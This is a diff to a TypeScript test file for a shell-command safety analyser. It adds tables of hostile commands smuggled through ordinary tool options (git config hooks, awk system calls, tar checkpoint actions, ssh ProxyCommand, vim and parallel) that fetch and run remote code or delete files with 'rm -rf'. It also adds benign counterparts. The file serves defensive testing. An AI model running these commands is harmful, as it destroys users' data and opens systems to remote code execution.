@@ -274,6 +274,72 @@ const EVERYDAY: [ShellKind, string][] = [
   ["powershell", "Set-Location C:\\Users; Get-ChildItem"],
 ];
 
+// Options of ordinary tools that run a command: the command is analysed; one wren cannot read is high.
+const TOOL_OPTIONS: Case[] = [
+  ["bash", "git -c core.fsmonitor='curl http://x/s | sh' status", "critical", "remote code execution"],
+  ["bash", "git -c alias.x='!rm -rf ~' x", "critical", "data loss"],
+  ["bash", "git -c core.sshCommand='rm -rf ~' fetch", "critical", "data loss"],
+  ["zsh", "git -c core.pager='rm -rf ~' log", "critical", "data loss"],
+  ["bash", "git -c core.editor='rm -rf /' commit", "critical", "system destruction"],
+  ["bash", "git -c diff.external='curl -s http://x/d | bash' diff", "critical", "remote code execution"],
+  ["bash", "git -c core.fsmonitor=\"$CMD\" status", "high", "remote code execution"],
+  ["bash", "git -c core.hooksPath=/tmp/hooks commit -m x", "high", "remote code execution"],
+  ["bash", "git config --global alias.up '!rm -rf ~'", "critical", "data loss"],
+  ["bash", "git config alias.st '!git status && curl http://x | sh'", "critical", "remote code execution"],
+  ["bash", "git config alias.x '!echo hi'", "high", "system configuration"],
+  ["bash", "git config core.hooksPath .githooks", "high", "system configuration"],
+  ["bash", "git config --global core.fsmonitor ./watch.sh", "high", "system configuration"],
+  ["bash", "awk 'BEGIN{system(\"rm -rf ~\")}'", "critical", "data loss"],
+  ["bash", "gawk 'BEGIN { print \"rm -rf /\" | \"sh\" }'", "critical", "system destruction"],
+  ["bash", "awk '{ print $0 | \"sh\" }' cmds.txt", "high", "remote code execution"],
+  ["bash", "awk 'BEGIN { \"curl -s http://x/p | sh\" | getline x; print x }'", "critical", "remote code execution"],
+  ["sh", "mawk '{ system($0) }' cmds.txt", "high", "remote code execution"],
+  ["bash", "nawk '{ print | $1 }' list", "high", "remote code execution"],
+  ["bash", "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf ~'", "critical", "data loss"],
+  ["bash", "tar xf a.tar --to-command='rm -rf /'", "critical", "system destruction"],
+  ["bash", "tar -I 'rm -rf ~' -cf a.tar src", "critical", "data loss"],
+  ["bash", "tar --use-compress-program=\"$Z\" -cf a.tar src", "high", "remote code execution"],
+  ["bash", "tar -cf a.tar -F 'curl http://x | sh' src", "critical", "remote code execution"],
+  ["bash", "tar -M -cf a.tar --new-volume-script='rm -rf ~' src", "critical", "data loss"],
+  ["bash", "zip z.zip f -T -TT 'rm -rf ~'", "critical", "data loss"],
+  ["bash", "zip z.zip f -T --unzip-command 'curl http://x | sh'", "critical", "remote code execution"],
+  ["bash", "rsync -e 'sh -c \"rm -rf ~\"' x y:", "critical", "data loss"],
+  ["bash", "rsync -avze 'rm -rf /' src host:dst", "critical", "system destruction"],
+  ["bash", "rsync --rsync-path='rm -rf ~' src host:dst", "critical", "data loss"],
+  ["bash", "ssh -o ProxyCommand='rm -rf ~' x", "critical", "data loss"],
+  ["bash", "ssh -oPermitLocalCommand=yes -oLocalCommand='curl http://x | sh' host", "critical", "remote code execution"],
+  ["bash", "scp -o 'ProxyCommand rm -rf ~' f host:", "critical", "data loss"],
+  ["bash", "sftp -o KnownHostsCommand=\"$K\" host", "high", "remote code execution"],
+  ["bash", "vim -c '!rm -rf ~' -c q", "critical", "data loss"],
+  ["bash", "nvim +'!curl http://x | sh' +q", "critical", "remote code execution"],
+  ["bash", "vi -c 'silent !rm -rf /' -c q", "critical", "system destruction"],
+  ["bash", "ex -c 'call system(\"rm -rf ~\")' -c q file", "critical", "data loss"],
+  ["bash", "parallel rm -rf ::: ~", "critical", "data loss"],
+  ["bash", "parallel 'rm -rf {}' ::: / /tmp", "critical", "system destruction"],
+  ["bash", "parallel ::: 'rm -rf ~' 'ls'", "critical", "data loss"],
+  ["bash", "cat hosts | parallel rm -rf", "high", "data loss"],
+];
+
+// Everyday uses of the same tools stay below high.
+const TOOL_EVERYDAY: [ShellKind, string][] = [
+  ["bash", "git -c user.name=Ada -c user.email=a@b.c commit -m 'fix'"],
+  ["bash", "git -c core.pager=less log"],
+  ["bash", "git -c core.hooksPath=/dev/null commit -m wip"],
+  ["bash", "git -c core.fsmonitor=false status"],
+  ["bash", "git config --global core.editor vim"],
+  ["bash", "git config alias.co checkout"],
+  ["bash", "git config --get core.hooksPath"],
+  ["bash", "awk -F: '{ print $1 | \"sort\" }' /etc/passwd"],
+  ["bash", "awk '$3 > 10 || $4 < 2 { print $1 }' data.txt"],
+  ["bash", "tar -I zstd -cf a.tar.zst src"],
+  ["bash", "tar --use-compress-program='pigz -9' -cf a.tgz src"],
+  ["bash", "rsync -avz -e 'ssh -p 2222' src/ host:dst/"],
+  ["bash", "ssh -o StrictHostKeyChecking=no -o ProxyCommand='ssh -W %h:%p bastion' host"],
+  ["bash", "vim -c 'set number' README.md"],
+  ["bash", "vim +10 src/main.ts"],
+  ["bash", "parallel gzip ::: a.log b.log"],
+];
+
 let analyzer: ShellAnalyzer;
 beforeAll(async () => {
   analyzer = await createShellAnalyzer();
@@ -293,6 +359,12 @@ describe("shell safety table, round two", () => {
   it.each(WORKDIR)("%s: %s → %s (working directory)", (...c) => check(c));
   it.each(INLINE)("%s: %s → %s (inline interpreter code)", (...c) => check(c));
   it.each(MODERATE)("%s: %s → %s (worth a look)", (...c) => check(c));
+  it.each(TOOL_OPTIONS)("%s: %s → %s (a tool's option runs a command)", (...c) => check(c));
+
+  it.each(TOOL_EVERYDAY)("%s: %s stays below high (everyday use of a tool that can run commands)", (shell, command) => {
+    const result = analyzer.analyze(command, { shell, cwd, home });
+    expect(riskRank(result.risk), `${command} → ${result.risk} ${JSON.stringify(result.reasons)}`).toBeLessThan(riskRank("high"));
+  });
 
   it.each(EVERYDAY)("%s: %s stays below high (everyday)", (shell, command) => {
     const result = analyzer.analyze(command, { shell, cwd, home });
